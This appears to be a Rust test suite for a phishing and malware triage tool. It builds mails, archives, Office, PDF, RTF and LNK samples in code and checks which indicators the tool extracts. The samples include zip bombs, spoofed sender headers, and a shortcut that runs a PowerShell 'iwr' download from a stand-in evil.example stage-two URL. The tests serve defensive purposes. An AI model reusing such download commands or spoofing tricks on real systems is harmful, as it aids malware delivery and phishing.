//! Containers made by code, honest and hostile.

use std::io::{Cursor, Write as _};

use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};
use proptest::prelude::*;
use zip::unstable::write::FileOptionsExt as _;
use zip::write::SimpleFileOptions;
use zip::{AesMode, ZipWriter};

use super::*;
use crate::cost;

/// A URL that must be found wherever it is.
const URL: &str = "http://evil.example/stage2";

fn opened(name: &str, bytes: &[u8]) -> (Inside, Findings) {
    opened_with(name, bytes, &Options::default())
}

fn opened_with(name: &str, bytes: &[u8], options: &Options) -> (Inside, Findings) {
    let inside = open(name, bytes, options);
    let found = findings(&inside, options);
    (inside, found)
}

fn parts(inside: &Inside) -> Vec<String> {
    (0..inside.parts.len()).map(|at| inside.path(at)).collect()
}

fn ticked(found: &Findings) -> Vec<String> {
    found.items.iter().filter(|item| item.ticked).map(|item| item.indicator.value()).collect()
}

#[track_caller]
fn item(found: &Findings, value: &str) -> Found {
    let item = found.items.iter().find(|item| item.indicator.value() == value);
    item.unwrap_or_else(|| panic!("{value} is not among {:#?}", found.items)).clone()
}

fn sha256(bytes: &[u8]) -> String {
    Hashes::of(bytes).sha256
}

#[track_caller]
fn says(inside: &Inside, words: &[&str]) {
    let said = inside.remarks.iter().any(|remark| words.iter().all(|word| remark.contains(word)));
    assert!(said, "{words:?} in {:#?}", inside.remarks);
}

fn zipped(options: SimpleFileOptions, members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn plain(members: &[(&str, &[u8])]) -> Vec<u8> {
    zipped(SimpleFileOptions::default(), members)
}

fn locked(password: &'static str, members: &[(&str, &[u8])]) -> Vec<u8> {
    zipped(SimpleFileOptions::default().with_aes_encryption(AesMode::Aes256, password), members)
}

fn gzipped(bytes: &[u8]) -> Vec<u8> {
    let mut out = GzEncoder::new(Vec::new(), Compression::fast());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

fn tarred(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (name, bytes) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_cksum();
        tar.append_data(&mut header, name, *bytes).unwrap();
    }
    tar.into_inner().unwrap()
}

fn base64(bytes: &[u8]) -> String {
    use ::base64::Engine as _;
    let packed = ::base64::engine::general_purpose::STANDARD.encode(bytes);
    packed.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap().to_owned() + "\r\n").collect()
}

/// A mail to `soc@own.example` with such headers, a body, and an attachment.
fn mail(headers: &str, body: &str, name: &str, attachment: &[u8]) -> Vec<u8> {
    format!(
        "{headers}To: soc@own.example\r\nSubject: invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
         This is a multi-part message.\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n--b1\r\n\
         Content-Type: application/octet-stream; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}--b1--\r\n",
        base64(attachment)
    )
    .into_bytes()
}

const FROM: &str = "From: Accounts <billing@sender.example>\r\n";

#[test]
fn an_attachment_is_hashed_and_listed_with_name_size_and_kind() {
    let (inside, found) = opened("m.eml", &mail(FROM, "see http://a.example/x", "invoice.exe", b"MZ\0\x01\x02"));
    assert_eq!(parts(&inside), ["", "invoice.exe"]);
    let part = &inside.parts[1];
    assert_eq!((part.role, part.kind.word, part.size), (Role::Attachment, "Windows program", 5));
    let hashes = part.hashes.as_ref().unwrap();
    assert_eq!((hashes.sha256.len(), hashes.sha1.len(), hashes.md5.len()), (64, 40, 32));
    let listed = item(&found, &sha256(b"MZ\0\x01\x02"));
    assert!(listed.ticked && listed.remark.contains("attachment invoice.exe (Windows program, 5"), "{listed:?}");
    assert_eq!(item(&found, "http://a.example/x").line, 11);
    assert!(inside.remarks.is_empty(), "{:?}", inside.remarks);
}

#[test]
fn archives_with_passwords_that_everybody_uses_are_opened_in_both_encryptions() {
    for password in ["infected", "malware"] {
        let member: &[(&str, &[u8])] = &[("readme.txt", URL.as_bytes()), ("a/b.exe", b"MZ\0")];
        let old = zipped(SimpleFileOptions::default().with_deprecated_encryption(password.as_bytes()).unwrap(), member);
        for archive in [locked(password, member), old] {
            let (inside, found) = opened("m.eml", &mail(FROM, "hello", "sample.zip", &archive));
            assert_eq!(parts(&inside), ["", "sample.zip", "sample.zip › readme.txt", "sample.zip › a/b.exe"]);
            let url = item(&found, URL);
            assert!(url.ticked && url.place == "sample.zip › readme.txt", "{url:?}");
            assert!(ticked(&found).contains(&sha256(b"MZ\0")));
        }
    }
}

#[test]
fn a_password_that_the_mail_tells_or_the_user_gives_opens_its_archive_and_any_other_is_said() {
    let archive = locked("S3cret!x", &[("a.js", URL.as_bytes())]);
    let (inside, found) = opened("m.eml", &mail(FROM, "The password is: S3cret!x.", "a.zip", &archive));
    assert!(ticked(&found).contains(&URL.to_owned()), "{inside:?}");
    let options = Options { passwords: vec!["S3cret!x".into()], ..Options::default() };
    assert!(ticked(&opened_with("a.zip", &archive, &options).1).contains(&URL.to_owned()));
    let (inside, found) = opened("a.zip", &archive);
    says(&inside, &["a.js in it needs a password", "--password"]);
    assert_eq!(ticked(&found), [sha256(&archive)], "the archive itself is listed all the same");
}

#[test]
fn archives_in_archives_are_opened_two_deep_and_then_hashed() {
    let deepest = plain(&[("deep.txt", URL.as_bytes())]);
    let second = plain(&[("third.zip", &deepest), ("seen.txt", b"http://seen.example/")]);
    let (inside, found) = opened("first.zip", &plain(&[("second.zip", &second)]));
    assert_eq!(parts(&inside), ["", "second.zip", "second.zip › third.zip", "second.zip › seen.txt"]);
    says(&inside, &["second.zip › third.zip", "more than 2 archives", "only hashed"]);
    assert!(ticked(&found).contains(&sha256(&deepest)) && ticked(&found).contains(&"http://seen.example/".to_owned()));
}

#[test]
fn gzip_tar_and_both_are_opened() {
    let tar = tarred(&[("a.txt", URL.as_bytes()), ("b.bin", b"\0\x01")]);
    for (name, archive) in [("a.tar", tar.clone()), ("a.tar.gz", gzipped(&tar))] {
        let (inside, found) = opened(name, &archive);
        assert_eq!(parts(&inside), ["", "a.txt", "b.bin"], "{name}");
        assert!(ticked(&found).contains(&URL.to_owned()));
    }
    let (inside, _) = opened("log.txt.gz", &gzipped(URL.as_bytes()));
    assert_eq!(parts(&inside), ["", "log.txt"]);
}

/// A 7-Zip archive of one stored file.
fn seven_zip(name: &str, content: &[u8]) -> Vec<u8> {
    let crc = |bytes: &[u8]| {
        let mut crc = flate2::Crc::new();
        crc.update(bytes);
        crc.sum()
    };
    let size = u8::try_from(content.len()).unwrap();
    let names: Vec<u8> = name.encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect();
    let mut header = vec![1, 4, 6, 0, 1, 9, size, 0, 7, 0x0b, 1, 0, 1, 1, 0, 0x0c, size, 0, 8, 0x0a, 1];
    header.extend(crc(content).to_le_bytes());
    header.extend([0, 0, 5, 1, 0x11, u8::try_from(names.len() + 1).unwrap(), 0]);
    header.extend(names);
    header.extend([0, 0]);
    let mut start = Vec::new();
    start.extend((content.len() as u64).to_le_bytes());
    start.extend((header.len() as u64).to_le_bytes());
    start.extend(crc(&header).to_le_bytes());
    let mut file = b"7z\xbc\xaf\x27\x1c\0\x04".to_vec();
    file.extend(crc(&start).to_le_bytes());
    [file, start, content.to_vec(), header].concat()
}

#[test]
fn seven_zip_is_opened_and_a_broken_one_is_a_sentence() {
    let archive = seven_zip("a.txt", URL.as_bytes());
    let (inside, found) = opened("a.7z", &archive);
    assert_eq!(parts(&inside), ["", "a.txt"], "{:?}", inside.remarks);
    assert!(ticked(&found).contains(&URL.to_owned()));
    let (inside, _) = opened("a.7z", &archive[..archive.len() - 5]);
    assert!(!inside.remarks.is_empty());
}

#[test]
fn bombs_are_left_alone_with_a_sentence_and_the_rest_is_read() {
    let zeros = vec![0; 32 << 20];
    let archive = plain(&[("bomb.bin", &zeros), ("seen.txt", URL.as_bytes())]);
    let (inside, found) = opened("a.zip", &archive);
    says(&inside, &["bomb.bin", "200 times its size", "left alone"]);
    assert_eq!(parts(&inside), ["", "seen.txt"]);
    assert!(ticked(&found).contains(&URL.to_owned()));
    let (inside, _) = opened("a.gz", &gzipped(&zeros));
    says(&inside, &["200 times"]);
}

#[test]
fn an_archive_that_lies_about_sizes_or_is_cut_is_a_remark() {
    let honest = plain(&[("a.txt", URL.as_bytes()), ("b.txt", b"http://b.example/")]);
    // The size of the first member, wherever it is written down.
    let size = u32::try_from(URL.len()).unwrap().to_le_bytes();
    let mut lying = honest.clone();
    for at in 0..lying.len() - 4 {
        if lying[at..at + 4] == size {
            lying[at..at + 4].copy_from_slice(&[0xff, 0xff, 0xff, 0x7f]);
        }
    }
    let (inside, found) = opened("a.zip", &lying);
    assert!(parts(&inside).contains(&"b.txt".to_owned()) || !inside.remarks.is_empty(), "{inside:?}");
    assert!(!found.items.is_empty());
    for cut in [1, honest.len() / 2, honest.len() - 3] {
        let (inside, _) = opened("a.zip", &honest[..cut]);
        assert!(cut < 4 || !inside.remarks.is_empty(), "{cut}");
    }
    let mut tar = tarred(&[("a.txt", URL.as_bytes())]);
    tar.truncate(512 + 10);
    let (inside, _) = opened("a.tar", &tar);
    assert!(!inside.remarks.is_empty(), "{inside:?}");
}

#[test]
fn more_members_than_the_limit_are_one_remark() {
    const MOST: usize = limits::MOST_PARTS;
    let names: Vec<String> = (0..MOST + 50).map(|number| format!("{number}")).collect();
    let members: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"\0"[..])).collect();
    let (inside, _) = opened(
        "a.zip",
        &zipped(SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored), &members),
    );
    assert_eq!(inside.parts.len(), MOST);
    assert!(inside.remarks.len() <= 2, "{:?}", inside.remarks);
}

#[test]
fn headers_are_listed_by_their_role_and_disagreement_is_said() {
    let headers = "Return-Path: <bounce@mailer.example>\r\n\
        Received: from gw.own.example (gw.own.example [198.51.100.5]) by mx.own.example; Tue, 24 Nov 2026 07:41:09 +0000\r\n\
        Received: from vps7.evil.example (vps7.evil.example [203.0.113.9]) by gw.own.example; Tue, 24 Nov 2026 07:41:08 +0000\r\n\
        Received: from laptop (unknown [10.1.2.3]) by vps7.evil.example; Tue, 24 Nov 2026 07:41:07 +0000\r\n\
        DKIM-Signature: v=1; a=rsa-sha256; d=signer.example; s=x;\r\n h=from; b=abc\r\n\
        X-Originating-IP: [192.0.2.77]\r\n\
        From: \"ceo@own.example\" <ceo@0wn.example>\r\nReply-To: <pay@reply.example>\r\n";
    let (inside, found) = opened("m.eml", &mail(headers, "hello", "a.bin", b"\0"));
    for (value, role) in [
        ("0wn.example", "From: ceo@own.example <ceo@0wn.example>"),
        ("reply.example", "Reply-To: pay@reply.example"),
        ("mailer.example", "Return-Path: bounce@mailer.example"),
        ("203.0.113.9", "first external hop: vps7.evil.example"),
        ("192.0.2.77", "sender's address: X-Originating-IP"),
        ("signer.example", "signed by (DKIM)"),
    ] {
        let item = item(&found, value);
        assert!(item.ticked && item.remark == role && item.line > 0, "{value}: {item:?}");
    }
    assert!(!item(&found, "10.1.2.3").ticked);
    says(
        &inside,
        &["From is ceo@0wn.example, but Reply-To is pay@reply.example and Return-Path is bounce@mailer.example"],
    );
    says(&inside, &["From is called ceo@own.example, but is ceo@0wn.example"]);
}

#[test]
fn what_is_the_recipients_or_internal_is_listed_and_not_ticked() {
    let options = Options {
        extract: ExtractOptions { internal_names: vec!["partner.example".into()], ..ExtractOptions::default() },
        ..Options::default()
    };
    let headers = "Return-Path: <x@partner.example>\r\nFrom: <boss@mail.own.example>\r\n";
    let (_, found) = opened_with("m.eml", &mail(headers, "hello", "a.bin", b"\0"), &options);
    assert_eq!(item(&found, "mail.own.example").reason, "the recipient's own domain");
    assert!(item(&found, "partner.example").reason.starts_with("internal"));
    let (_, found) = opened("m.eml", &mail("From: <a.person@gmail.com>\r\n", "hello", "a.bin", b"\0"));
    assert!(!item(&found, "gmail.com").ticked);
}

#[test]
fn what_is_under_a_domain_of_the_recipient_is_not_ticked_in_the_body_either() {
    let body = "https://files.own.example/secret/doc.docx and http://own.example.evil.example/x and wiki.own.example";
    let (_, found) = opened("m.eml", &mail("From: <a@sender.example>\r\n", body, "a.bin", b"\0"));
    for own in ["https://files.own.example/secret/doc.docx", "wiki.own.example"] {
        assert!(!item(&found, own).ticked && item(&found, own).reason == OWN_DOMAIN, "{own}");
    }
    assert!(item(&found, "http://own.example.evil.example/x").ticked);
    let to_a_provider =
        "From: <a@sender.example>\r\nTo: someone@qq.com\r\nContent-Type: text/plain\r\n\r\nhttps://x.qq.com/login\r\n";
    assert!(item(&opened("m.eml", to_a_provider.as_bytes()).1, "https://x.qq.com/login").ticked);
}

#[test]
fn what_a_url_tells_of_who_received_it_is_said_beside_it_and_it_is_found_all_the_same() {
    let url = "https://evil.example/#YWxpY2VAdmljdGltY29ycC5jb20=";
    let (_, found) = opened("m.eml", &mail("From: <a@sender.example>\r\n", url, "a.bin", b"\0"));
    assert!(item(&found, url).ticked && item(&found, url).internal.contains("e-mail address"), "{found:?}");
    assert_eq!(item(&found, "sender.example").internal, "");
}

#[test]
fn what_a_broken_structure_hides_is_read() {
    let claims = format!(
        "{FROM}To: soc@own.example\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nplease open {URL} now\r\n"
    );
    assert!(ticked(&opened("m.eml", claims.as_bytes()).1).contains(&URL.to_owned()));
    let mut after = mail(FROM, "hello", "a.bin", b"\0");
    after.extend(format!("\r\nand then {URL}\r\n").bytes());
    let (_, found) = opened("m.eml", &after);
    let url = item(&found, URL);
    assert!(url.ticked && url.line == after.split(|byte| *byte == b'\n').count() - 1, "{url:?}");
    let before = String::from_utf8(mail(FROM, "hello", "a.bin", b"\0")).unwrap();
    let before = before.replace("This is a multi-part message.", &format!("before {URL}"));
    assert!(ticked(&opened("m.eml", before.as_bytes()).1).contains(&URL.to_owned()));
    let unended = String::from_utf8(mail(FROM, URL, "a.bin", b"\0")).unwrap().replace("--b1--", "");
    assert!(ticked(&opened("m.eml", unended.as_bytes()).1).contains(&URL.to_owned()));
    let unnamed = String::from_utf8(mail(FROM, URL, "a.bin", b"\0")).unwrap().replace("boundary=\"b1\"", "x=y");
    assert!(ticked(&opened("m.eml", unnamed.as_bytes()).1).contains(&URL.to_owned()));
}

#[test]
fn mails_in_mails_are_opened_and_their_attachments_listed() {
    let inner = mail("From: <inner@deep.example>\r\n", URL, "deep.exe", b"MZ\0deep");
    let head = format!(
        "{FROM}To: soc@own.example\r\nContent-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n--b0\r\nContent-Type: text/plain\r\n\r\nfwd\r\n--b0\r\nContent-Type: message/rfc822\r\n"
    );
    let unpacked = [format!("{head}\r\n").into_bytes(), inner.clone(), b"\r\n--b0--\r\n".to_vec()].concat();
    let packed =
        format!("{head}Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--b0--\r\n", base64(&inner)).into_bytes();
    for outer in [unpacked, packed] {
        let (inside, found) = opened("m.eml", &outer);
        assert!(parts(&inside).iter().any(|path| path.ends_with("deep.exe")), "{:?}", parts(&inside));
        for value in [URL, "deep.example", &sha256(b"MZ\0deep")] {
            assert!(item(&found, value).ticked, "{value}");
        }
    }
}

#[test]
fn ten_thousand_parts_inside_of_each_other_never_end_it() {
    let mut multiparts = format!("{FROM}To: soc@own.example\r\n");
    for level in 0..10_000 {
        multiparts += &format!("Content-Type: multipart/mixed; boundary=\"b{level}\"\r\n\r\n--b{level}\r\n");
    }
    multiparts += &format!("\r\n{URL}\r\n");
    let mut mails = String::new();
    for _ in 0..10_000 {
        mails += &format!("{FROM}To: soc@own.example\r\nContent-Type: message/rfc822\r\n\r\n");
    }
    mails += &format!("{FROM}To: soc@own.example\r\n\r\n{URL}\r\n");
    for text in [multiparts, mails] {
        let (inside, found) = opened("m.eml", text.as_bytes());
        assert!(ticked(&found).contains(&URL.to_owned()));
        says(&inside, &["inside of each other"]);
        assert!(inside.remarks.len() < 20, "{:?}", inside.remarks);
    }
}

/// A mail whose text begins as a mail does, as one that was passed on.
fn passing_on(inner: &str) -> String {
    format!(
        "Received: from mx.evil.example (mx.evil.example [203.0.113.9]) by mx.own.example; Mon, 1 Jan 2024 00:00:00 +0000\r\n\
         From: Boss <boss@evil.example>\r\nReply-To: pay@evil-pay.example\r\nTo: me@own.example\r\nSubject: x\r\n\r\n{inner}"
    )
}

#[test]
fn a_text_that_begins_like_a_mail_hides_nothing_of_the_mail_that_it_stands_in() {
    let inner =
        format!("From: Alice <alice@good.example>\r\nSubject: invoice\r\nTo: me@own.example\r\n\r\nsee {URL}\r\n");
    let (inside, found) = opened("m.eml", passing_on(&inner).as_bytes());
    for (value, remark) in [
        ("evil.example", "From: Boss <boss@evil.example>"),
        ("evil-pay.example", "Reply-To: pay@evil-pay.example"),
        ("203.0.113.9", "first external hop: mx.evil.example"),
        ("good.example", "mail passed on in it: From: Alice <alice@good.example>"),
        (URL, "see"),
    ] {
        let item = item(&found, value);
        assert!(item.ticked && item.remark == remark, "{value}: {item:?}");
    }
    says(&inside, &["From is boss@evil.example, but Reply-To is pay@evil-pay.example"]);
}

#[test]
fn what_disagrees_in_a_mail_that_was_passed_on_is_said_of_that_one() {
    let inner = "From: Alice <alice@good.example>\r\nReply-To: <a@else.example>\r\nTo: me@own.example\r\n\r\nhello\r\n";
    let (inside, _) = opened("m.eml", passing_on(inner).as_bytes());
    says(&inside, &["mail passed on in it: From is alice@good.example, but Reply-To is a@else.example"]);
}

#[test]
fn a_mail_of_many_texts_that_begin_like_mails_costs_what_its_length_is() {
    let cost = |bytes: usize| {
        let one = "--x\n\nFrom: a@b.test\nTo: b@c.test\n\n";
        let many = one.repeat(bytes / one.len());
        let mail = format!("From: a@b.test\nTo: b@c.test\nContent-Type: multipart/mixed; boundary=x\n\n{many}--x--\n");
        cost::of(|| opened("a.eml", mail.as_bytes()))
    };
    assert!(cost::is_linear(128 << 10, cost));
}

#[test]
fn a_mail_of_many_senders_and_recipients_costs_what_its_length_is() {
    for line in ["Reply-To: a@b{}.test\n", "Reply-To: a@b{}.test\nTo: a@c{}.test\n", "X-Sender-IP: b{}.test\n"] {
        let cost = |bytes: usize| {
            let many: String = (0..bytes / line.len()).map(|number| line.replace("{}", &number.to_string())).collect();
            let mail = format!("From: a@b.test\nTo: b@c.test\n{many}\nhello\n");
            cost::of(|| opened("a.eml", mail.as_bytes()))
        };
        assert!(cost::is_linear(256 << 10, cost), "{line}");
    }
}

#[test]
fn a_password_that_a_mail_tells_is_tried_on_what_that_mail_brings_and_on_nothing_else() {
    let archive = locked("S3cret!x", &[("a.js", URL.as_bytes())]);
    let telling = String::from_utf8(mail(FROM, "The password is: S3cret!x.", "b.txt", b"x")).unwrap();
    let bringing = String::from_utf8(mail(FROM, "hello", "a.zip", &archive)).unwrap();
    let from = "From x Tue Nov 24 07:41:02 2026\n";
    let (inside, _) = opened("m.mbox", format!("{from}{telling}\n\n{from}{bringing}\n").as_bytes());
    says(&inside, &["a.zip", "needs a password"]);
    let both = String::from_utf8(mail(FROM, "The password is: S3cret!x.", "a.zip", &archive)).unwrap();
    let (_, found) = opened("m.mbox", format!("{from}{telling}\n\n{from}{both}\n").as_bytes());
    assert!(ticked(&found).contains(&URL.to_owned()));
}

#[test]
fn an_archive_whose_first_members_no_password_opens_is_left_with_one_sentence_and_its_open_members_are_read() {
    let names: Vec<String> = (0..50).map(|number| format!("{number}.bin")).collect();
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for name in &names {
        zip.start_file(name, SimpleFileOptions::default().with_aes_encryption(AesMode::Aes256, "other")).unwrap();
        zip.write_all(b"x").unwrap();
    }
    zip.start_file("open.txt", SimpleFileOptions::default()).unwrap();
    zip.write_all(URL.as_bytes()).unwrap();
    let (inside, found) = opened("a.zip", &zip.finish().unwrap().into_inner());
    assert!(ticked(&found).contains(&URL.to_owned()));
    assert_eq!(inside.remarks.len(), 9, "{:?}", inside.remarks);
    says(&inside, &["42 more of its members left alone", "--password gives one"]);
}

#[test]
fn passwords_are_tried_within_a_bound_however_many_archives_and_words_there_are() {
    let archive = locked("other", &[("a.bin", b"x"), ("b.bin", b"x"), ("c.bin", b"x")]);
    let words = (0..8).map(|word| format!("password: word{word}\r\n")).collect::<Vec<_>>().concat();
    let from = "From x Tue Nov 24 07:41:02 2026\n";
    let one = String::from_utf8(mail(FROM, &words, "a.zip", &archive)).unwrap();
    let many = format!("{from}{one}\n\n").repeat(24);
    let (inside, _) = opened("m.mbox", many.as_bytes());
    says(&inside, &["too many passwords were tried in vain", "--password gives one"]);
    let tried = inside.remarks.iter().filter(|remark| remark.contains("none of the")).count();
    assert_eq!(tried, 50, "{:?}", inside.remarks);
}

#[test]
fn a_mailbox_is_read_mail_by_mail() {
    let one = format!("From x Tue Nov 24 07:41:02 2026\nFrom: <a@one.example>\nTo: <b@own.example>\n\n{URL}\n\n");
    let two = "From y Tue Nov 24 07:41:02 2026\nFrom: <a@two.example>\nTo: <b@own.example>\n\nhttp://two.example/x\n";
    let (inside, found) = opened("m.mbox", (one + two).as_bytes());
    assert_eq!(parts(&inside), ["", "mail 1", "mail 2"]);
    for value in [URL, "http://two.example/x", "one.example"] {
        assert!(item(&found, value).ticked, "{value}");
    }
}

/// A mail as Outlook keeps it, with an attachment and a mail in it.
fn outlook() -> Vec<u8> {
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    let mut put = |path: &str, bytes: &[u8]| {
        if let Some((storage, _)) = path.rsplit_once('/').filter(|(storage, _)| !storage.is_empty()) {
            file.create_storage_all(storage).unwrap();
        }
        file.create_stream(path).unwrap().write_all(bytes).unwrap();
    };
    let (attachment, inner) = ("/__attach_version1.0_#00000000", "/__attach_version1.0_#00000001/__substg1.0_3701000D");
    put("/__properties_version1.0", b"");
    put(
        "/__substg1.0_007D001F",
        &wide("From: <a@sender.example>\r\nReply-To: <b@other.example>\r\nTo: <c@own.example>\r\n"),
    );
    put("/__substg1.0_1000001F", &wide("open it"));
    put("/__substg1.0_10130102", format!("<p>see <a href=\"{URL}\">this</a></p>").as_bytes());
    put(&format!("{attachment}/__substg1.0_37010102"), b"MZ\0outlook");
    put(&format!("{attachment}/__substg1.0_3707001F"), &wide("invoice.exe"));
    put(&format!("{inner}/__substg1.0_1000001F"), &wide("http://inner.example/x"));
    put(&format!("{inner}/__substg1.0_5D01001F"), &wide("d@innersender.example"));
    file.into_inner().into_inner()
}

#[test]
fn an_outlook_mail_is_read_with_its_attachments_and_the_mails_in_it() {
    let (inside, found) = opened("m.msg", &outlook());
    assert_eq!(parts(&inside), ["", "invoice.exe", "attachment 2"], "{:?}", inside.remarks);
    for value in [
        URL,
        "http://inner.example/x",
        "sender.example",
        "other.example",
        "innersender.example",
        &sha256(b"MZ\0outlook"),
    ] {
        assert!(item(&found, value).ticked, "{value}");
    }
    says(&inside, &["From is a@sender.example, but Reply-To is b@other.example"]);
}

#[test]
fn documents_give_words_links_and_embedded_files() {
    let rels = format!(
        "<Relationships><Relationship Id=\"r1\" Type=\"x/attachedTemplate\" Target=\"{URL}\" TargetMode=\"External\"/></Relationships>"
    );
    let docx = plain(&[
        ("[Content_Types].xml", b"<Types/>"),
        (
            "word/document.xml",
            b"<w:document><w:p><w:r><w:t>http://words.exam</w:t></w:r><w:r><w:t>ple/x</w:t></w:r></w:p></w:document>",
        ),
        ("word/_rels/settings.xml.rels", rels.as_bytes()),
        ("word/embeddings/oleObject1.bin", b"\0\x01object"),
    ]);
    let (inside, found) = opened("a.docx", &docx);
    assert_eq!((inside.parts[0].kind.word, item(&found, URL).remark.as_str()), ("Word document", "attachedTemplate"));
    for value in ["http://words.example/x", &sha256(&docx), &sha256(b"\0\x01object")] {
        assert!(item(&found, value).ticked, "{value}");
    }
    let mut packed = ZlibEncoder::new(Vec::new(), Compression::fast());
    packed.write_all(format!("BT (see {URL}) Tj ET").as_bytes()).unwrap();
    let packed = packed.finish().unwrap();
    let pdf = [
        b"%PDF-1.7\n1 0 obj << /A << /S /URI /URI (http://link.example/x) >> >> endobj\n2 0 obj << /Filter /FlateDecode >>\nstream\n".to_vec(),
        packed,
        b"\nendstream endobj\n%%EOF".to_vec(),
    ]
    .concat();
    let rtf =
        format!("{{\\rtf1 {{\\field{{\\*\\fldinst HYPERLINK \"{URL}\"}}{{\\fldrslt x}}}} http://link.example/x }}");
    for (name, bytes) in [("a.pdf", pdf), ("a.rtf", rtf.into_bytes())] {
        let (_, found) = opened(name, &bytes);
        for value in [URL, "http://link.example/x", &sha256(&bytes)] {
            assert!(item(&found, value).ticked, "{name}: {value}");
        }
    }
    let link = super::document::shortcut::made(&format!("-c \"iwr {URL}\""));
    let (_, found) = opened("a.zip", &plain(&[("a.lnk", &link)]));
    assert!(item(&found, URL).ticked && item(&found, &sha256(&link)).remark.contains("a.lnk in a.zip"), "{found:?}");
}

#[test]
fn a_value_in_a_long_line_is_shown_with_what_stands_around_it() {
    let line = |at: usize| format!("word{at} http://h{at}.example/a ");
    let text: String = (0..400).map(line).collect();
    let (_, found) = opened("one line.txt", text.as_bytes());
    for at in [0, 1, 17, 399] {
        let context = item(&found, &format!("http://h{at}.example/a")).context;
        assert!(context.contains(line(at).trim()), "{at}: {context}");
    }
}

#[test]
fn a_mail_of_one_long_line_costs_what_its_length_is() {
    for (shape, bytes) in
        [("{}.test,", 1 << 20), ("%68ttp://h{}.ex%61mple/a ", 256 << 10), ("a{}@evil.example ", 256 << 10)]
    {
        let cost = |bytes: usize| {
            let body: String = (0..bytes / shape.len()).map(|at| shape.replace("{}", &at.to_string())).collect();
            let mail = mail("From: a@b.test", &body, "a.txt", b"x");
            cost::of(|| opened("a.eml", &mail))
        };
        assert!(cost::is_linear(bytes, cost), "{shape}");
    }
}

#[test]
fn a_plain_text_gives_what_extraction_gives_and_no_hash_of_its_own() {
    let text = "hxxp://a[.]example/x  dropper\ngateway 10.0.0.1\n";
    let (_, found) = opened("a.txt", text.as_bytes());
    let expected = crate::ioc::extract(text, &ExtractOptions::default()).items;
    let same: Vec<_> =
        found.items.iter().map(|item| (&item.indicator, item.line, item.remark.as_str(), item.ticked)).collect();
    assert_eq!(
        same,
        expected.iter().map(|item| (&item.indicator, item.line, &*item.remark, item.ticked)).collect::<Vec<_>>()
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Containers with some of their bytes changed or cut off: everything ends, with parts and remarks.
    #[test]
    fn no_change_to_a_container_ends_it(
        which in 0_usize..9,
        changes in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..12),
        cut in proptest::option::of(any::<prop::sample::Index>()),
    ) {
        let zip = plain(&[("a.txt", URL.as_bytes()), ("b.bin", b"\0\x01")]);
        let mut bytes = match which {
            0 => zip,
            1 => gzipped(&tarred(&[("a.txt", URL.as_bytes())])),
            2 => tarred(&[("a.txt", URL.as_bytes())]),
            3 => seven_zip("a.txt", URL.as_bytes()),
            4 => outlook(),
            5 => mail(FROM, URL, "a.zip", &zip),
            6 => plain(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<a>b</a>")]),
            7 => super::document::shortcut::made(URL),
            _ => format!("{{\\rtf1 {{\\*\\objdata 4d5a}} {URL}}}").into_bytes(),
        };
        for (at, byte) in changes {
            let at = at.index(bytes.len());
            bytes[at] = byte;
        }
        if let Some(cut) = cut {
            bytes.truncate(cut.index(bytes.len()));
        }
        let (inside, _) = opened("a", &bytes);
        prop_assert!(!inside.parts.is_empty());
    }
}
